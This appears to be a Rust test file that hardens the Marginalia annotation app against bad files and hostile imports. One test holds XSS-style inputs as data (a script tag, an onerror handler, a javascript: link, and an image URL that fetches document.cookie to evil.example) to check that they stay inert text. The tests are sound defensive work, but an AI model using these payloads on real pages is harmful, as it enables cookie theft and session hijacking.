#![cfg(not(target_arch = "wasm32"))]
//! Hardening (issue 6): bad files and hostile imports, through the same pure functions the app
//! calls when a file is opened (`parse_bytes`: decode, then parse by type). Each case checks the
//! exact message the user is shown, what was kept, and that nothing was shifted or run. The
//! end-to-end battery (`tests/e2e/hardening.test.mjs`) shows the same messages in the page and
//! checks that the stored corpus is unchanged.

use std::rc::Rc;
use std::time::Instant;

use marginalia::app::parse::{file_kind, parse_bytes, FileKind, MAX_FILE_BYTES};
use marginalia::app::state::NoticeKind;
use marginalia::formats::export::{export, ExportContext, Format};
use marginalia::formats::import::native::import_native;
use marginalia::model::{url_host, BlockKind, DocEntry, LabelSchema, Span, SpanId, Status};
use marginalia::storage::schema::{read_doc, read_doc_and_tombstones, write_doc};

const PNG: &[u8] = &[
    0x89, b'P', b'N', b'G', 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, b'I', b'H', b'D', b'R', 0, 0, 0,
    1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1F, 0x15, 0xC4, 0x89,
];
const ZIP: &[u8] = b"PK\x03\x04\x14\x00\x00\x00\x08\x00\xa1\x9c\x77\x59\x00\x00\x00\x00note.txt";

const CTX: ExportContext<'static> = ExportContext {
    app_version: "0.1.0",
    exported_at: "2026-11-23T11:17:30Z",
    annotator: "",
};

type Opened = marginalia::app::parse::Parsed;

/// What the app does with a file of this name and these bytes (after the size check).
fn open(name: &str, bytes: &[u8]) -> Opened {
    let kind = file_kind(name).expect("a file type Marginalia opens");
    assert!(kind != FileKind::Html, "HTML needs the browser's DOMParser");
    parse_bytes(name, kind, bytes, &LabelSchema::default())
}

fn errors(opened: &Opened) -> Vec<&str> {
    opened
        .1
        .iter()
        .filter(|(k, _)| *k == NoticeKind::Error)
        .map(|(_, t)| t.as_str())
        .collect()
}

fn infos(opened: &Opened) -> Vec<&str> {
    opened
        .1
        .iter()
        .filter(|(k, _)| *k == NoticeKind::Info)
        .map(|(_, t)| t.as_str())
        .collect()
}

fn slice(entry: &DocEntry, s: &Span) -> String {
    entry
        .doc
        .text
        .chars()
        .skip(s.start)
        .take(s.end - s.start)
        .collect()
}

// ---------------------------------------------------------------------------------------------
// 1. Files

#[test]
fn empty_files_say_so() {
    for (name, bytes, message) in [
        ("empty.txt", &b""[..], "empty.txt is empty."),
        ("blank.md", b" \n\t\r\n\n ", "blank.md is empty."),
        (
            "empty.json",
            b"",
            "empty.json: This file is empty: it is not JSON or JSON Lines.",
        ),
        (
            "blank.jsonl",
            b"\n\n  \n",
            "blank.jsonl: This file is empty: it is not JSON or JSON Lines.",
        ),
    ] {
        let got = open(name, bytes);
        assert!(got.0.is_empty(), "{name}");
        assert_eq!(errors(&got), vec![message]);
        assert!(infos(&got).is_empty());
    }
}

#[test]
fn binary_files_are_refused_by_name_or_by_content() {
    // By name: the file input's `accept` and the loader refuse other extensions.
    for name in ["photo.png", "archive.zip", "report.pdf", "a.exe"] {
        assert_eq!(file_kind(name), None, "{name}");
    }
    // By content, whatever the name says.
    for (name, bytes) in [
        ("photo.txt", PNG),
        ("archive.md", ZIP),
        ("data.json", ZIP),
        ("controls.txt", &[1u8, 2, 3, 4, 5, 6, 7, 8, 9, 10][..]),
    ] {
        let got = open(name, bytes);
        assert!(got.0.is_empty(), "{name}");
        assert_eq!(
            errors(&got),
            vec![format!("{name}: This looks like a binary file, not text.")]
        );
    }
}

#[test]
fn windows_1252_is_read_and_the_encoding_named() {
    // “Café” — naïve 10€, in Windows-1252.
    let bytes =
        b"\x93Caf\xe9\x94 \x97 na\xefve\n\nIt cost 10\x80 \x96 said Fran\xe7ois \x85 in Z\xfcrich.";
    let got = open("old.txt", bytes);
    assert_eq!(
        infos(&got),
        vec![
            "old.txt is not UTF-8; it was read as Windows-1252.",
            // Load adds "Opened 1 article." itself.
        ]
    );
    assert!(errors(&got).is_empty());
    assert_eq!(
        got.0[0].doc.text,
        "“Café” — naïve\n\nIt cost 10€ – said François … in Zürich."
    );
    // UTF-16 with a byte order mark is named too; UTF-8 with a BOM says nothing.
    let mut le = vec![0xFF, 0xFE];
    for u in "Zoë 🇺🇦\n\nBody.".encode_utf16() {
        le.extend_from_slice(&u.to_le_bytes());
    }
    let got = open("wide.txt", &le);
    assert_eq!(
        infos(&got),
        vec!["wide.txt is not UTF-8; it was read as UTF-16LE."]
    );
    assert_eq!(got.0[0].doc.text, "Zoë 🇺🇦\n\nBody.");
    let got = open("bom.txt", "\u{feff}Title\n\nBody.".as_bytes());
    assert!(got.1.is_empty(), "{:?}", got.1);
}

#[test]
fn the_size_limit_is_ten_megabytes() {
    assert_eq!(MAX_FILE_BYTES, 10.0 * 1024.0 * 1024.0);
}

#[test]
fn literal_tags_in_text_stay_text_and_image_urls_are_never_links() {
    let text = "<h1>Not a heading</h1>\n\n<script>window.__pwned = 1</script> and \
                <img src=x onerror=\"window.__pwned=2\"> and <a href=\"javascript:alert(1)\">x</a>\n\n\
                ![tracker](javascript:fetch%28'//evil.example/'+document.cookie%29)\n\n\
                ![tracker](javascript:alert(document.cookie))\n\n\
                ![pixel](data:image/png;base64,iVBORw0KGgo=)\n\n\
                ![ok](https://images.example.org/a.jpg)";
    let got = open("tags.txt", text.as_bytes());
    assert!(got.1.is_empty(), "{:?}", got.1);
    let doc = &got.0[0].doc;
    // Kept exactly, character for character: the app renders it as text nodes.
    assert_eq!(doc.text, text);
    assert_eq!(doc.title, "<h1>Not a heading</h1>");
    assert!(doc.block_text(&doc.blocks[1]).starts_with("<script>"));
    // With parentheses in its URL the line is not an image at all: a paragraph of text.
    assert_eq!(doc.blocks[3].kind, BlockKind::Paragraph);
    let urls: Vec<(&str, Option<&str>)> = doc
        .blocks
        .iter()
        .filter_map(|b| match &b.kind {
            BlockKind::Image { url, .. } => Some((url.as_str(), url_host(url))),
            _ => None,
        })
        .collect();
    assert_eq!(
        urls,
        vec![
            (
                "javascript:fetch%28'//evil.example/'+document.cookie%29",
                None
            ),
            ("data:image/png;base64,iVBORw0KGgo=", None),
            (
                "https://images.example.org/a.jpg",
                Some("images.example.org")
            ),
        ]
    );
}

// ---------------------------------------------------------------------------------------------
// 2. Imports

#[test]
fn not_json_and_truncated_json() {
    let got = open("notes.json", b"Just some prose, not JSON.");
    assert_eq!(
        errors(&got),
        vec![
            "notes.json: This file is not JSON or JSON Lines (expected value at line 1 column 1)."
        ]
    );
    let got = open(
        "cut.json",
        br#"{"text": "Harbour reopens", "spans": [{"start": 0, "end": 7, "lab"#,
    );
    assert!(got.0.is_empty());
    assert_eq!(
        errors(&got),
        vec!["cut.json: This file is not JSON or JSON Lines (EOF while parsing a string at line 1 column 65)."]
    );
    // A truncated JSONL: the whole lines load, the cut one is reported.
    let got = open(
        "cut.jsonl",
        b"{\"text\": \"First.\"}\n{\"text\": \"Second.\", \"spans\": [{\"sta",
    );
    assert_eq!(got.0.len(), 1);
    assert_eq!(
        errors(&got),
        vec!["cut.jsonl: line 2: not valid JSON (EOF while parsing a string at line 1 column 35); skipped"]
    );
    // A truncated Marginalia dataset is not JSON either: nothing is merged.
    let mut dataset = String::from_utf8(
        export(
            Format::Native,
            &LabelSchema::default(),
            &[annotated()],
            &CTX,
        )
        .unwrap()
        .bytes,
    )
    .unwrap();
    dataset.truncate(dataset.len() / 2);
    let got = open("backup.json", dataset.as_bytes());
    assert!(got.0.is_empty() && got.2.is_none());
    assert_eq!(errors(&got).len(), 1, "{:?}", got.1);
    assert!(
        errors(&got)[0]
            .starts_with("backup.json: This file is not JSON or JSON Lines (EOF while parsing"),
        "{:?}",
        got.1
    );
}

#[test]
fn another_tools_schema_is_named_not_guessed() {
    // A W3C annotation collection, a CSV and a bare list of numbers, named .json.
    let w3c = br#"{"@context": "http://www.w3.org/ns/anno.jsonld", "type": "AnnotationCollection",
                   "first": {"items": [{"type": "Annotation", "target": {"source": "urn:x"}}]}}"#;
    let got = open("w3c.json", w3c);
    assert!(got.0.is_empty());
    assert_eq!(
        errors(&got),
        vec!["w3c.json: item 1: no \"text\" field; skipped"]
    );
    let got = open("spans.json", b"document_id,span_id,label\nd1,s1,quote\n");
    assert_eq!(
        errors(&got),
        vec![
            "spans.json: This file is not JSON or JSON Lines (expected value at line 1 column 1)."
        ]
    );
    let got = open("numbers.json", b"[1, 2, 3]");
    assert_eq!(
        errors(&got),
        vec![
            "numbers.json: item 1: expected an object with a \"text\" field, found a number; skipped",
            "numbers.json: item 2: expected an object with a \"text\" field, found a number; skipped",
            "numbers.json: item 3: expected an object with a \"text\" field, found a number; skipped",
        ]
    );
    // A dataset of a newer Marginalia, and one that is ours by name only.
    let got = open(
        "future.json",
        br#"{"schema": "marginalia-dataset", "version": 9, "documents": []}"#,
    );
    assert_eq!(
        errors(&got),
        vec!["future.json: This dataset is version 9, from a newer Marginalia; this one reads version 2."]
    );
    let got = open(
        "odd.json",
        br#"{"schema": "marginalia-dataset", "version": 1, "documents": {}}"#,
    );
    assert_eq!(
        errors(&got),
        vec!["odd.json: This dataset has no \"documents\" array."]
    );
}

const TEXT: &str = "The cat sat on the mat. The cat left.";

fn jsonl_with(spans: &str) -> Vec<u8> {
    format!(r#"{{"text": "{TEXT}", "spans": [{spans}]}}"#).into_bytes()
}

#[test]
fn every_bad_span_is_reported_by_number_and_none_is_shifted() {
    let got = open(
        "bad-spans.jsonl",
        &jsonl_with(
            r#"{"start": 4, "end": 7, "label": "entity", "id": "cat", "text": "cat"},
               {"start": 0, "end": 99, "label": "quote"},
               {"start": 7, "end": 7, "label": "quote"},
               {"start": 9, "end": 4, "label": "quote"},
               {"start": -3, "end": 4, "label": "quote"},
               {"start": 0.5, "end": 4, "label": "quote"},
               {"start": 0, "end": 9007199254740993, "label": "quote"},
               {"start": -9007199254740993, "end": 3, "label": "quote"},
               {"start": 1e300, "end": 3, "label": "quote"},
               {"start": 0, "end": 3, "label": "opinion"},
               {"start": 4, "end": 7, "label": "claim", "id": "cat"},
               {"start": 4, "end": 7, "label": "entity"},
               {"start": 4, "end": 7, "label": "quote", "text": "mat"},
               {"start": 19, "end": 22, "label": "quote", "text": "cat"},
               {"start": 19, "end": 22, "label": "quote", "text": "mat"}"#,
        ),
    );
    // The first 2 problems are shown one by one and the rest counted: with "Opened 1
    // article." that fills the 4 notices the header holds. The full list is in the report.
    assert_eq!(
        errors(&got),
        vec![
            "bad-spans.jsonl: item 1, span 2: end 99 is beyond the text (37 characters); skipped",
            "bad-spans.jsonl: item 1, span 3: start 7 is not before end 7; skipped",
            "bad-spans.jsonl: 10 more problems were skipped.",
        ]
    );
    let entry = &got.0[0];
    let kept: Vec<(usize, usize, String, String, String)> = entry
        .spans
        .iter()
        .map(|s| {
            (
                s.start,
                s.end,
                s.label.clone(),
                s.id.0.clone(),
                slice(entry, s),
            )
        })
        .collect();
    assert_eq!(kept.len(), 3, "{kept:?}");
    // The entity and the claim on "cat" (the claim's repeated id "cat" replaced by a new
    // one), and the quote whose text matched at 19..22 — never moved to another "cat".
    assert!(kept[..2].iter().all(|k| (k.0, k.1) == (4, 7)));
    let entity = kept.iter().find(|k| k.2 == "entity").unwrap();
    let claim = kept.iter().find(|k| k.2 == "claim").unwrap();
    assert_eq!(entity.3, "cat");
    assert!(claim.3 != "cat" && !claim.3.is_empty());
    assert_eq!((kept[2].0, kept[2].1, kept[2].4.as_str()), (19, 22, "mat"));
    assert_eq!(kept[2].2, "quote");
}

#[test]
fn the_full_problem_list_names_every_span() {
    use marginalia::formats::import::json_docs::parse_json_documents;
    let mut n = 0;
    let mut ids = || {
        n += 1;
        SpanId(format!("new-{n}"))
    };
    let input = String::from_utf8(jsonl_with(
        r#"{"start": 0, "end": 9007199254740993, "label": "quote"},
           {"start": -9007199254740993, "end": 3, "label": "quote"},
           {"start": 1e300, "end": 3, "label": "quote"},
           {"start": 4, "end": 7, "label": "quote", "text": "mat"},
           {"start": 4, "end": 7, "label": "claim", "text": "The"}"#,
    ))
    .unwrap();
    let report =
        parse_json_documents(&input, "x.jsonl", &LabelSchema::default(), &mut ids).unwrap();
    assert_eq!(
        report.problems,
        vec![
            "item 1, span 1: end 9007199254740993 is beyond the text (37 characters); skipped",
            "item 1, span 2: start -9007199254740993 is negative; skipped",
            "item 1, span 3: start 1e+300 is beyond the text (37 characters); skipped",
            "item 1, span 4: its text \"mat\" does not match the text at 4..7 (\"cat\"); skipped",
            "item 1, span 5: its text \"The\" does not match the text at 4..7 (\"cat\"); skipped",
        ]
    );
    assert!(report.docs[0].spans.is_empty());
}

#[test]
fn deeply_nested_json_is_refused_with_a_message() {
    let deep = format!("{}{}", "[".repeat(5000), "]".repeat(5000));
    let got = open("deep.json", deep.as_bytes());
    assert_eq!(
        errors(&got),
        vec!["deep.json: This file is not JSON or JSON Lines (recursion limit exceeded at line 1 column 128)."]
    );
    // Nested inside a span of a document: only that line is lost, and it says why.
    let deep_line = format!(
        "{{\"text\": \"Kept.\"}}\n{{\"text\": \"Lost.\", \"spans\": {}{}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    let got = open("deep.jsonl", deep_line.as_bytes());
    assert_eq!(got.0.len(), 1);
    assert_eq!(
        errors(&got),
        vec!["deep.jsonl: line 2: not valid JSON (recursion limit exceeded at line 1 column 154); skipped"]
    );
    // A dataset nested too deeply: refused whole, never half merged.
    let deep_native = format!(
        r#"{{"schema": "marginalia-dataset", "version": 1, "documents": [{}{}]}}"#,
        "[".repeat(300),
        "]".repeat(300)
    );
    let got = open("deep-backup.json", deep_native.as_bytes());
    assert!(got.0.is_empty() && got.2.is_none());
    assert!(
        errors(&got)[0].contains("recursion limit exceeded"),
        "{:?}",
        got.1
    );
    assert!(import_native(&deep_native)
        .unwrap_err()
        .starts_with("This file is not valid JSON (recursion limit exceeded"));
}

/// `n` words of text and a span on each one.
fn many_spans(n: usize) -> (String, Vec<(usize, usize)>) {
    let mut text = String::from("Many spans\n\n");
    let mut ranges = Vec::with_capacity(n);
    for i in 0..n {
        let start = text.chars().count();
        let word = format!("w{i}");
        text.push_str(&word);
        text.push(if i % 20 == 19 { '\n' } else { ' ' });
        ranges.push((start, start + word.len()));
    }
    (text, ranges)
}

#[test]
fn a_hundred_thousand_spans_import_in_linear_time() {
    const N: usize = 100_000;
    let (text, ranges) = many_spans(N);
    let mut json = String::from("{\"text\": ");
    marginalia::codec::json_out::write_string(&mut json, &text);
    json.push_str(", \"spans\": [");
    for (i, (a, b)) in ranges.iter().enumerate() {
        if i > 0 {
            json.push(',');
        }
        let label = ["quote", "claim", "entity"][i % 3];
        json.push_str(&format!(
            r#"{{"start": {a}, "end": {b}, "label": "{label}", "id": "s{i}", "text": "w{i}"}}"#
        ));
    }
    json.push_str("]}");
    let t = Instant::now();
    let got = open("many.json", json.as_bytes());
    let took = t.elapsed();
    println!(
        "{N} spans ({} bytes) through the JSON importer: {took:?}",
        json.len()
    );
    assert!(got.1.is_empty(), "{:?}", &got.1[..got.1.len().min(3)]);
    assert_eq!(got.0[0].spans.len(), N);
    // Sorted in text order, as the app keeps them.
    assert!(got.0[0]
        .spans
        .windows(2)
        .all(|w| Span::text_order(&w[0], &w[1]).is_lt()));

    // The same corpus as a Marginalia dataset: export and import back.
    let entry = Rc::new(got.0.into_iter().next().unwrap());
    let t = Instant::now();
    let dataset = export(
        Format::Native,
        &LabelSchema::default(),
        std::slice::from_ref(&entry),
        &CTX,
    )
    .unwrap();
    let exported = t.elapsed();
    let t = Instant::now();
    let back = open("many-backup.json", &dataset.bytes);
    println!(
        "{N} spans: native export {exported:?} ({} bytes), import {:?}",
        dataset.bytes.len(),
        t.elapsed()
    );
    assert!(back.2.is_some() && back.1.is_empty(), "{:?}", back.1);
    assert_eq!(back.0[0].spans, entry.spans);
    // And through storage.
    let t = Instant::now();
    let stored = write_doc(&back.0[0], &Default::default());
    let read = read_doc(&stored).unwrap();
    println!("{N} spans: storage write + read {:?}", t.elapsed());
    assert_eq!(read.spans, entry.spans);
}

// ---------------------------------------------------------------------------------------------
// Marginalia datasets

fn annotated() -> Rc<DocEntry> {
    let doc = marginalia::formats::article::parse_article(
        "Kept safe\n\nThe mayor said “yes” on Monday.",
        "kept.md",
    );
    Rc::new(DocEntry {
        relations: Default::default(),
        spans: Rc::new(vec![Rc::new(Span {
            id: SpanId("s1".into()),
            start: 15,
            end: 20,
            label: "entity".into(),
            note: "a note".into(),
            attrs: Default::default(),
            created: Some(1_795_425_600_000),
            updated: None,
            annotator: Default::default(),
        })]),
        doc: Rc::new(doc),
        statuses: marginalia::model::entry::statuses_from(vec![(Rc::from(""), Status::InProgress)]),
        decided: Default::default(),
    })
}

#[test]
fn dataset_duplicates_and_mismatches_are_reported_per_span() {
    let json = r#"{"schema": "marginalia-dataset", "version": 1, "documents": [
        {"id": "d", "title": "T", "source": "s", "status": "done", "text": "T\n\nThe cat sat.",
         "blocks": [{"kind": "title", "start": 0, "end": 1}, {"kind": "paragraph", "start": 3, "end": 15}],
         "spans": [
            {"id": "a", "start": 7, "end": 10, "text": "cat", "label": "entity"},
            {"id": "a", "start": 11, "end": 14, "text": "sat", "label": "claim"},
            {"id": "b", "start": 7, "end": 10, "text": "sat", "label": "claim"},
            {"id": "c", "start": 7, "end": 10, "text": "cat", "label": "opinion"},
            {"id": "d", "start": 7, "end": 9007199254740993, "text": "cat", "label": "claim"},
            {"id": "e", "start": -1, "end": 3, "text": "T\n\n", "label": "claim"},
            {"id": "f", "start": 7.0, "end": 10, "text": "cat", "label": "claim"}
         ]}]}"#;
    let got = import_native(json).unwrap();
    assert_eq!(
        got.problems,
        vec![
            "document 1 (d), span 2: id \"a\" is invalid or repeated; skipped",
            "document 1 (d), span 3: its text \"sat\" is not the text at 7..10 (\"cat\"); skipped",
            "document 1 (d), span 4: unknown label \"opinion\"; skipped",
            "document 1 (d), span 5: 7..9007199254740993 is not within the text (15 characters); skipped",
            "document 1 (d), span 6: not valid (\"start\" is not a whole number); skipped",
            "document 1 (d), span 7: not valid (\"start\" is not a whole number); skipped",
        ]
    );
    assert_eq!(got.entries[0].spans.len(), 1);
    assert_eq!(got.entries[0].spans[0].id.0, "a");
}

#[test]
fn dataset_blocks_out_of_order_are_refused_not_stored_unreadable() {
    // Blocks that overlap or go backwards would be saved and then refused as corrupt on the
    // next start: the import refuses the document at once instead.
    for blocks in [
        r#"[{"kind": "paragraph", "start": 3, "end": 6}, {"kind": "title", "start": 0, "end": 1}]"#,
        r#"[{"kind": "title", "start": 0, "end": 4}, {"kind": "paragraph", "start": 3, "end": 6}]"#,
    ] {
        let json = format!(
            r#"{{"schema": "marginalia-dataset", "version": 1, "documents": [
                {{"id": "d", "title": "T", "source": "s", "text": "T\n\nabc", "blocks": {blocks}}}]}}"#
        );
        let got = import_native(&json).unwrap();
        assert!(got.entries.is_empty(), "{blocks}");
        assert_eq!(
            got.problems,
            vec!["document 1 (d): its blocks overlap or are out of order; skipped"]
        );
    }
    // Whatever a dataset import keeps reads back from storage.
    let json = r#"{"schema": "marginalia-dataset", "version": 1, "documents": [
        {"id": "d", "title": "T", "source": "s", "text": "T\n\nabc",
         "blocks": [{"kind": "title", "start": 0, "end": 1}, {"kind": "paragraph", "start": 1, "end": 1},
                    {"kind": "paragraph", "start": 3, "end": 6}]}]}"#;
    let got = import_native(json).unwrap();
    assert!(got.problems.is_empty(), "{:?}", got.problems);
    let stored = write_doc(&got.entries[0], &Default::default());
    assert_eq!(read_doc_and_tombstones(&stored).unwrap().0, got.entries[0]);
}
